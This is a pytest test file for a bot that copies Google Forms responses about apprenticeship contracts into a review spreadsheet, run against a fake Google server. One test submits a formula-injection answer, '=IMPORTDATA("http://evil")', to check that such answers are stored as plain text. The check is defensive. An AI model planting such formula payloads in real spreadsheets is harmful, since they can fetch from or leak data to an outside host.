"""The `forms` intake: the Forms API read through google-api-python-client, the review sheet through
gspread, both against the loopback server."""

from datetime import datetime, timedelta, timezone

import pytest

from bot.adapters.forms import SCOPES as FORMS_SCOPES, FormsClient
from bot.adapters.sheet import BOT_HEADERS, RowWrite
from bot.adapters.sheet_forms import FormsSheet
from bot.adapters.sheet_google import SCOPES as SHEETS_SCOPES, GoogleSheet
from bot.errors import SheetError
from tests.app.intakes import FORM, REVIEW, REVIEW_TAB
from tests.support.google_server import GoogleServer

UTC = timezone.utc
T0 = datetime(2026, 9, 1, 8, 0, tzinfo=UTC)
QUESTIONS = ["Nom", "Prénom", {"title": "Date de début du contrat", "kind": "date"},
             {"title": "Type de contrat", "kind": "radio",
              "options": ["Contrat d'apprentissage", "Contrat de professionnalisation"]}]


@pytest.fixture
def server():
    with GoogleServer() as server:
        server.add_form(FORM, "FVMA", QUESTIONS, email_collection="VERIFIED")
        server.add_spreadsheet(REVIEW, title="Feuille 1", rows=[])
        yield server
        assert not server.errors


class Clock:
    def __init__(self):
        self.now = 0.0

    def __call__(self) -> float:
        return self.now


def forms_sheet(server, aliases=None, page_size=0, clock=None, full_scan_seconds=3600.0) -> FormsSheet:
    credentials = server.credentials(SHEETS_SCOPES + FORMS_SCOPES)
    review = GoogleSheet(credentials, REVIEW, REVIEW_TAB, server.url, id_key="[sheet.forms].review_spreadsheet_id")
    forms = FormsClient(credentials, FORM, server.url, page_size=page_size, sleep=lambda s: None)
    return FormsSheet(forms, review, FORM, aliases, full_scan_seconds, clock or Clock())


def submit(server, name: str, when: datetime, **answers) -> str:
    return server.add_response(FORM, {"Nom": name, "Prénom": "Léa", **answers}, email=f"{name.lower()}@etu.fr",
                               submitted=when)


def values(server) -> list[dict]:
    rows = server.sheet(REVIEW, REVIEW_TAB).values()
    return [dict(zip(rows[0], r + [None] * (len(rows[0]) - len(r)))) for r in rows[1:]]


def cycle_once(sheet: FormsSheet) -> dict[int, list]:
    """What a cycle does with no bot cell to write: read, then store the responses."""
    snapshot = sheet.read()
    sheet.write([], {})
    return dict(snapshot.rows)


def test_the_first_run_creates_a_tagged_review_worksheet_with_the_forms_fields_in_order(server):
    forms_sheet(server).prepare()
    sheet = server.sheet(REVIEW, REVIEW_TAB)
    assert sheet.values()[0] == ["Horodateur", "Adresse e-mail", "Nom", "Prénom", "Date de début du contrat",
                                 "Type de contrat", *BOT_HEADERS, "ID réponse", "Dernière soumission (UTC)"]
    assert sheet.frozen_row_count == 1
    assert [(m.key, m.value, m.location_type) for m in sheet.developer_metadata] == [("fvma-review", FORM, "SHEET")]
    assert [(m.key, m.value) for m in server.spreadsheet(REVIEW).metadata if m.location_type == "SPREADSHEET"] == \
        [("fvma-review", FORM)]
    before = server.count("write")
    forms_sheet(server).prepare()
    assert server.count("write") == before   # nothing left to set up


def test_new_responses_are_appended_in_the_order_of_first_submission_and_tagged(server):
    late = submit(server, "Martin", T0 + timedelta(hours=2), **{"Date de début du contrat": "2026-09-15"})
    early = submit(server, "Bernard", T0)
    sheet = forms_sheet(server)
    sheet.prepare()
    rows = cycle_once(sheet)
    assert list(rows) == [2, 3]
    table = values(server)
    assert [r["Nom"] for r in table] == ["Bernard", "Martin"]
    assert table[1]["Horodateur"] == "01/09/2026 12:00:00" and table[1]["Date de début du contrat"] == "15/09/2026"
    assert table[1]["Dernière soumission (UTC)"] == "2026-09-01T10:00:00.000000Z"
    review = server.sheet(REVIEW, REVIEW_TAB)
    assert [review.metadata_row("fvma-response", rid) for rid in (early, late)] == [2, 3]
    assert review.validation(3, review.values()[0].index("Décision") + 1)["condition"]["type"] == "ONE_OF_LIST"


def test_a_quiet_read_asks_forms_only_for_what_came_after_the_newest_row(server):
    submit(server, "Martin", T0)
    sheet = forms_sheet(server)
    sheet.prepare()
    cycle_once(sheet)
    server.reset_counts()
    assert len(cycle_once(sheet)) == 1
    lists = [r for r in server.requests if r.api == "forms"]
    assert [r.query.get("filter") for r in lists] == ["timestamp > 2026-09-01T07:50:00.000000000Z"]  # 10 min early
    assert (server.count("read", api="sheets"), server.count("write")) == (1, 0)


def test_an_edited_response_is_laid_over_its_row_then_stored_with_its_new_time(server):
    rid = submit(server, "Martin", T0, **{"Type de contrat": "Contrat d'apprentissage"})
    submit(server, "Bernard", T0 + timedelta(hours=1))
    sheet = forms_sheet(server)
    sheet.prepare()
    first = cycle_once(sheet)
    server.edit_response(FORM, rid, {"Type de contrat": "Contrat de professionnalisation", "Prénom": None},
                         submitted=T0 + timedelta(days=1))
    snapshot = sheet.read()
    header = snapshot.header
    edited = dict(snapshot.rows)[2]
    assert edited[header.index("Type de contrat")] == "Contrat de professionnalisation"
    assert edited[header.index("Prénom")] is None and edited[header.index("Horodateur")] == "02/09/2026 10:00:00"
    assert dict(snapshot.rows)[3][header.index("Nom")] == first[3][header.index("Nom")] == "Bernard"
    server.sort_rows(REVIEW, key=3, reverse=False, title=REVIEW_TAB)   # Bernard first, before the write
    sheet.write([], {})
    martin = next(r for r in values(server) if r["Nom"] == "Martin")
    assert (martin["Type de contrat"], martin["Prénom"]) == ("Contrat de professionnalisation", None)
    assert martin["Dernière soumission (UTC)"] == "2026-09-02T08:00:00.000000Z"
    assert len(values(server)) == 2 and len(cycle_once(sheet)) == 2
    assert [r for r in server.requests if r.api == "forms"][-1].query["filter"] == \
        "timestamp > 2026-09-02T07:50:00.000000000Z"


def test_every_page_of_responses_is_read(server):
    for i in range(5):
        submit(server, f"N{i}", T0 + timedelta(minutes=i))
    sheet = forms_sheet(server, page_size=2)
    sheet.prepare()
    assert len(cycle_once(sheet)) == 5
    assert [r.query.get("pageToken") is not None for r in server.requests
            if r.method_id == "forms.forms.responses.list"] == [False, True, True]


def test_a_reordered_form_with_a_question_renamed_to_an_alias_fills_the_same_columns(server):
    submit(server, "Martin", T0, **{"Date de début du contrat": "2026-09-15"})
    sheet = forms_sheet(server, aliases={"date_debut": ["Début du contrat"]})
    sheet.prepare()
    cycle_once(sheet)
    server.rename_question(FORM, "Date de début du contrat", "Début du contrat")
    server.reorder_questions(FORM, ["Type de contrat", "Début du contrat", "Prénom", "Nom"])
    rid = submit(server, "Bernard", T0 + timedelta(hours=1), **{"Début du contrat": "2026-10-01",
                                                                 "Type de contrat": "Contrat de professionnalisation"})
    cycle_once(sheet)
    bernard = values(server)[1]
    shown = [bernard[h] for h in ("Nom", "Date de début du contrat", "Type de contrat", "ID réponse")]
    assert shown == ["Bernard", "01/10/2026", "Contrat de professionnalisation", rid]
    assert "Début du contrat" not in server.sheet(REVIEW, REVIEW_TAB).values()[0]


def test_a_question_added_mid_year_gets_its_column_before_the_bot_columns(server):
    submit(server, "Martin", T0)
    sheet = forms_sheet(server)
    sheet.prepare()
    cycle_once(sheet)
    server.add_question(FORM, "SIRET", index=2)
    submit(server, "Bernard", T0 + timedelta(hours=1), SIRET="732 829 320 00074")
    cycle_once(sheet)
    header = server.sheet(REVIEW, REVIEW_TAB).values()[0]
    assert header.index("SIRET") == header.index("N° dossier") - 1
    assert [r["SIRET"] for r in values(server)] == [None, "732 829 320 00074"]


def test_the_full_listing_catches_an_edit_the_filter_does_not_return(server):
    server.forms_filter_on = "createTime"   # the API's other possible reading of "submitted after"
    rid = submit(server, "Martin", T0)
    submit(server, "Bernard", T0 + timedelta(hours=1))
    clock = Clock()
    sheet = forms_sheet(server, clock=clock, full_scan_seconds=3600)
    sheet.prepare()
    cycle_once(sheet)
    server.edit_response(FORM, rid, {"Nom": "Martin-Durand"}, submitted=T0 + timedelta(days=1))
    clock.now = 1800
    cycle_once(sheet)
    assert values(server)[0]["Nom"] == "Martin"          # the filter missed it
    clock.now = 3600
    cycle_once(sheet)
    assert values(server)[0]["Nom"] == "Martin-Durand"
    assert [r.query.get("filter") is None for r in server.requests if r.method_id.endswith("responses.list")] == \
        [True, False, True]


def test_a_row_deleted_from_the_review_sheet_is_not_added_again(server, caplog):
    gone = submit(server, "Martin", T0)
    submit(server, "Bernard", T0 + timedelta(hours=1))
    sheet = forms_sheet(server, full_scan_seconds=0)
    sheet.prepare()
    cycle_once(sheet)
    server.delete_rows(REVIEW, 2, title=REVIEW_TAB)
    caplog.set_level("INFO")
    assert len(cycle_once(sheet)) == 1 and len(values(server)) == 1
    assert gone in caplog.text and "left out" in caplog.text


def test_rows_typed_or_copied_by_a_person_are_not_taken_for_responses(server):
    submit(server, "Martin", T0)
    sheet = forms_sheet(server)
    sheet.prepare()
    cycle_once(sheet)
    header = server.sheet(REVIEW, REVIEW_TAB).values()[0]
    typed = [None] * len(header)
    typed[header.index("Nom")] = "Ajout à la main"
    server.append_row(REVIEW, typed, title=REVIEW_TAB)
    server.append_row(REVIEW, server.sheet(REVIEW, REVIEW_TAB).values()[1], title=REVIEW_TAB)  # a copy
    assert list(cycle_once(sheet)) == [2]


def test_a_renamed_review_tab_is_found_by_its_tag(server):
    submit(server, "Martin", T0)
    forms_sheet(server).prepare()
    server.sheet(REVIEW, REVIEW_TAB).title = "Suivi 2026"
    sheet = forms_sheet(server)
    sheet.prepare()
    assert len(cycle_once(sheet)) == 1
    assert [s.title for s in server.spreadsheet(REVIEW).sheets] == ["Feuille 1", "Suivi 2026"]


def test_a_lost_response_id_column_stops_the_bot_instead_of_taking_every_response_for_new(server):
    submit(server, "Martin", T0)
    sheet = forms_sheet(server)
    sheet.prepare()
    cycle_once(sheet)
    header = server.sheet(REVIEW, REVIEW_TAB).values()[0]
    server.delete_columns(REVIEW, header.index("ID réponse") + 1, title=REVIEW_TAB)
    with pytest.raises(SheetError, match="ID réponse"):
        sheet.read()


def test_answers_that_look_like_formulas_or_numbers_are_stored_as_text(server):
    submit(server, "=IMPORTDATA(\"http://evil\")", T0, Prénom="0612345678")
    sheet = forms_sheet(server)
    sheet.prepare()
    cycle_once(sheet)
    row = values(server)[0]
    assert (row["Nom"], row["Prénom"]) == ("=IMPORTDATA(\"http://evil\")", "0612345678")
    assert not server.formulas_written


def test_before_the_first_run_a_dry_run_sees_every_response_and_creates_nothing(server):
    submit(server, "Martin", T0)
    sheet = forms_sheet(server)
    snapshot = sheet.read()
    assert [r[0] for r in snapshot.rows] == [2] and "N° dossier" in snapshot.header
    assert server.count("write") == 0 and [s.title for s in server.spreadsheet(REVIEW).sheets] == ["Feuille 1"]
    with pytest.raises(SheetError, match="does not exist yet"):
        sheet.write([RowWrite("FVMA-2026-0001", 2, "x", {"N° dossier": "FVMA-2026-0001"}, True)], {})


def test_a_deleted_review_worksheet_stops_the_bot_instead_of_starting_over(server):
    submit(server, "Martin", T0)
    sheet = forms_sheet(server)
    sheet.prepare()
    cycle_once(sheet)
    review = server.spreadsheet(REVIEW)
    review.sheets.remove(review.sheet(REVIEW_TAB))
    review.metadata[:] = [m for m in review.metadata if m.location_type == "SPREADSHEET"]
    with pytest.raises(SheetError):
        sheet.read()   # the values read fails: the worksheet is gone
    with pytest.raises(SheetError, match="Version history"):
        sheet.read()
    with pytest.raises(SheetError, match="Version history"):
        forms_sheet(server).prepare()   # after a restart too
    with pytest.raises(SheetError, match="Version history"):
        forms_sheet(server).read()      # and in a dry run
    assert [s.title for s in review.sheets] == ["Feuille 1"]
